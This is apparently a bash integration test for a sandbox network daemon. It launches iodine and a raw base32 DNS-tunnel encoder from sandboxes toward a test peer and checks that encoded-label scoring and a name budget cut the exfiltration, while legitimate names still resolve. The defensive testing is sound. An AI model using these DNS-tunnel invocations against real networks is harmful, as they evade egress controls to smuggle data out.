#!/usr/bin/env bash
# DNS tunnelling through an allowed wildcard (issue 25).  A policy allows
# "*.dt.example"; the world's knotd delegates t.tunnel.dt.example to Debian's
# iodined and r.tunnel.dt.example to a raw peer (tests/integ/dnstunnel.py
# authd), both in the world's inet netns.  Attackers in sandboxes, under the
# defaults (no dns: key in the policy):
#   - iodine: the tunnel must not come up, or carry under 10 KB before it is
#     cut; measured as bytes a TCP sink behind iodined received through it,
#     and the qname characters below the tunnel zone that left netd (the
#     world resolver's query log);
#   - a raw encoder, base32 in labels over A, TXT and NULL: long labels are
#     refused by the encoded-label score at the first query; short ones pass
#     the score and are cut by the name budget; the bytes the peer decoded
#     are counted.  The budget survives a reload of the same policy.
#   - the corpus of legitimate names (tests/unit/dns/legit_names.txt),
#     under one wildcard rule per section, resolved through a sandbox: none
#     refused.
# Assertions are on bytes and names, never on time; waits are bounded polls.
set -uo pipefail
cd "$(dirname "$0")/../.."
. tests/world.sh
. tests/integ/lib_netd.sh

for b in iodine iodined; do
	if ! command -v "$b" >/dev/null; then
		echo "FAIL - $b is not installed (make deps)"
		echo "0 passed, 1 failed"
		exit 1
	fi
done
world_up "ndtun$$" >/dev/null || { echo "world_up failed"; echo "0 passed, 1 failed"; exit 1; }
TUN=$PWD/tests/integ/dnstunnel.py
PY=$WORLD_PYTHON
CORPUS=tests/unit/dns/legit_names.txt
NETD_POLICIES=$WORLD_DIR/policies
mkdir -p "$NETD_POLICIES"
cat >"$NETD_POLICIES/tun.yaml" <<'YAML'
name: tun
egress:
  - domains: ["*.dt.example"]
    ports: [443]
YAML
# One wildcard rule per section of the corpus, as its users would write them.
{
	echo "name: corpus"
	echo "egress:"
	sed -n 's/^\[\([^]]*\)\].*/\1/p' "$CORPUS" | sort -u | while read -r rule; do
		printf '  - domains: ["%s"]\n    ports: [443]\n' "$rule"
	done
} >"$NETD_POLICIES/corpus.yaml"
netd_up || { echo "0 passed, 1 failed"; exit 1; }
ok "policy check of the test policies" netd policy check "$NETD_POLICIES/tun.yaml" "$NETD_POLICIES/corpus.yaml"
for s in sb1 sb2 sb3 sb4; do ok "sandbox $s" sb_create "$s" tun; done
ok "sandbox corpus" sb_create corpus corpus

world_exec inet ip addr add 198.51.100.80/32 dev lo
world_exec inet ip addr add 198.51.100.81/32 dev lo

# poll_for SECONDS CMD... - CMD until it succeeds, at most SECONDS.
poll_for() {
	local secs=$1 i
	shift
	for ((i = 0; i < secs * 10; i++)); do
		"$@" >/dev/null 2>&1 && return 0
		sleep 0.1
	done
	return 1
}

# ---- iodine -------------------------------------------------------------------------------
ip netns exec "$WORLD_INET_NS" iodined -f -c -P i25secret -l 198.51.100.80 \
	10.99.0.1/27 t.tunnel.dt.example </dev/null >"$WORLD_DIR/iodined.log" 2>&1 &
world_pid_track $!
ok "iodined listens on 198.51.100.80" poll_for 20 grep -q "Listening to dns" "$WORLD_DIR/iodined.log"
ok "the delegation reaches iodined (outside netd)" poll_for 10 \
	world_exec host dig +time=2 +tries=1 @192.0.2.53 ns.t.tunnel.dt.example
ip netns exec "$WORLD_INET_NS" "$PY" "$TUN" sink 10.99.0.1 7777 "$WORLD_DIR/sink.count" \
	</dev/null >"$WORLD_DIR/sink.log" 2>&1 &
world_pid_track $!
GW1=$(sb_field "$(sb_name sb1)" gateway4)
: >"$WORLD_DIR/iodine.log"
"$NETD_BIN" exec --net-admin "$(sb_name sb1)" -- iodine -f -r -P i25secret "$GW1" \
	t.tunnel.dt.example </dev/null >"$WORLD_DIR/iodine.log" 2>&1 &
IODINE_PID=$!
world_pid_track "$IODINE_PID"
up=no
for ((i = 0; i < 900; i++)); do
	if grep -q "Connection setup complete" "$WORLD_DIR/iodine.log"; then up=yes; break; fi
	kill -0 "$IODINE_PID" 2>/dev/null || break
	sleep 0.1
done
sent=0
if [ "$up" = yes ]; then
	sent=$(T_TIMEOUT=120 sb_exec sb1 "$PY" "$TUN" send 10.99.0.1 7777 65536 2>/dev/null || echo 0)
fi
kill -TERM "$IODINE_PID" 2>/dev/null
wait "$IODINE_PID" 2>/dev/null
through=$(cat "$WORLD_DIR/sink.count" 2>/dev/null || echo 0)
read -r q_names q_chars < <("$PY" "$TUN" qbytes "$WORLD_DIR/unbound.log" t.tunnel.dt.example)
echo "iodine: tunnel up: $up; sent $sent bytes, $through reached the far end;" \
	"$q_names names below t.tunnel.dt.example left netd ($q_chars characters)"
ok "iodine carried under 10 KB through the tunnel ($through bytes)" test "${through:-0}" -lt 10240
ok "the names iodine got out carry under 10 KB ($q_chars characters, 5 bits each at most)" \
	test $((q_chars * 5 / 8)) -lt 10240
has "iodine's names were refused as encoded" '"reason":"dns-encoded"' \
	"$(audit_grep "\"sandbox\":\"$(sb_name sb1)\"" t.tunnel.dt.example)"

# ---- the raw encoder ---------------------------------------------------------------------
ip netns exec "$WORLD_INET_NS" "$PY" "$TUN" authd 198.51.100.81 r.tunnel.dt.example \
	"$WORLD_DIR/authd.log" </dev/null >"$WORLD_DIR/authd.out" 2>&1 &
world_pid_track $!
ok "the raw peer answers (outside netd)" poll_for 10 \
	world_exec host dig +time=2 +tries=1 @192.0.2.53 x.r.tunnel.dt.example A

raw() { # SHORT DOMAIN OUT ARGS... - the raw encoder inside sandbox SHORT
	local sb=$1 dom=$2 out=$3
	shift 3
	T_TIMEOUT=300 sb_exec "$sb" "$PY" "$TUN" raw "$(sb_field "$(sb_name "$sb")" gateway4)" \
		"$dom" "$out" "$@"
}
field() { jq -r ".$2" "$1"; }

# Greedy: three 57-character base32 labels a name (106 bytes), as iodine sends.
raw sb2 g.r.tunnel.dt.example "$WORLD_DIR/raw-greedy.json" --label-len 57 --labels 3 --count 200
out=$("$PY" "$TUN" decode "$WORLD_DIR/authd.log" g.r.tunnel.dt.example)
echo "raw encoder, 57-character labels: $(cat "$WORLD_DIR/raw-greedy.json"); $out bytes reached the peer"
eq "long base32 labels: refused from the first query" 1 "$(field "$WORLD_DIR/raw-greedy.json" first_refused)"
eq "... nothing reached the peer" 0 "$out"
has "... with an Extended DNS Error 15 (Blocked) saying why" "15 netd: " \
	"$(field "$WORLD_DIR/raw-greedy.json" ede)"
has "... audited dns-encoded" '"reason":"dns-encoded"' "$(audit_grep g.r.tunnel.dt.example)"
has "... the record says what looked encoded" \
	'"detail":"refused as DNS tunnelling: a run of 57 characters looks base32-encoded"' \
	"$(audit_grep g.r.tunnel.dt.example '"reason":"dns-encoded"' | head -1)"

# Stealthy: one 24-character label a name (15 bytes): passes the score; the
# name budget (default 500 names per 10 minutes below the rule) cuts it.
raw sb3 s.r.tunnel.dt.example "$WORLD_DIR/raw-short.json" --label-len 24 --labels 1 --count 700
out=$("$PY" "$TUN" decode "$WORLD_DIR/authd.log" s.r.tunnel.dt.example)
echo "raw encoder, 24-character labels: $(cat "$WORLD_DIR/raw-short.json"); $out bytes reached the peer"
eq "short labels: the 501st distinct name is refused" 501 "$(field "$WORLD_DIR/raw-short.json" first_refused)"
eq "... every later one too" 0 "$(($(field "$WORLD_DIR/raw-short.json" sent) - 500 - $(field "$WORLD_DIR/raw-short.json" refused)))"
ok "... under 10 KB reached the peer ($out bytes)" test "$out" -lt 10240
has "... with an Extended DNS Error 18 (Prohibited) naming the budget" "18 netd: " \
	"$(field "$WORLD_DIR/raw-short.json" ede)"
has "... audited dns-budget" '"reason":"dns-budget"' "$(audit_grep s.r.tunnel.dt.example)"
has "... the record names the budget spent" '"detail":"DNS name budget spent: 500 new names per 10m below ' \
	"$(audit_grep s.r.tunnel.dt.example '"reason":"dns-budget"' | head -1)"
has "... counted in the metrics" "netd_dns_budget_refused_total" \
	"$(curl -s --unix-socket "$NETD_SOCKET" http://netd/v1/metrics)"
# A name the sandbox already asked within the window is not new: still answered.
first=$(grep -m1 '\.s\.r\.tunnel\.dt\.example ' "$WORLD_DIR/authd.log" | cut -d' ' -f1)
eq "... a name it asked before the budget was spent still resolves" "status: NOERROR" \
	"$(sb_dig sb3 "$first" A | grep -o 'status: [A-Z]*')"
eq "... a new one does not" "status: REFUSED" \
	"$(sb_dig sb3 new.s.r.tunnel.dt.example A | grep -o 'status: [A-Z]*')"

ok "policy reload of the same policy" netd policy reload
raw sb3 s2.r.tunnel.dt.example "$WORLD_DIR/raw-after.json" --label-len 24 --labels 1 --count 60
eq "the budget survives a reload of the same policy: new names still refused" 1 \
	"$(field "$WORLD_DIR/raw-after.json" first_refused)"
raw sb4 s3.r.tunnel.dt.example "$WORLD_DIR/raw-other.json" --label-len 24 --labels 1 --count 60
eq "another sandbox has its own budget" 0 "$(field "$WORLD_DIR/raw-other.json" refused)"

# ---- the corpus of legitimate names --------------------------------------------------------
grep -v '^\[\|^#\|^$' "$CORPUS" | sed 's/$/ A/' >"$WORLD_DIR/corpus.batch"
n_names=$(wc -l <"$WORLD_DIR/corpus.batch")
out=$(T_TIMEOUT=600 sb_exec corpus dig +time=3 +tries=2 -f "$WORLD_DIR/corpus.batch" 2>&1)
n_answers=$(grep -c 'status: ' <<<"$out")
n_refused=$(grep -c 'status: REFUSED' <<<"$out")
eq "every name of the corpus answered ($n_names)" "$n_names" "$n_answers"
eq "none refused" 0 "$n_refused"
recs=$(audit_grep "\"sandbox\":\"$(sb_name corpus)\"" '"event":"dns"')
hasnt "no corpus name denied" '"verdict":"deny"' "$recs"
hasnt "... none audited dns-budget" 'dns-budget' "$recs"
hasnt "... none audited dns-encoded" 'dns-encoded' "$recs"

out=$(netd policy check "$NETD_POLICIES/tun.yaml" 2>&1)
has "policy check shows the rule's default budget" "500 names per 10m" "$out"

ok "netd still alive" netd_alive
netd_down
world_down
t_summary
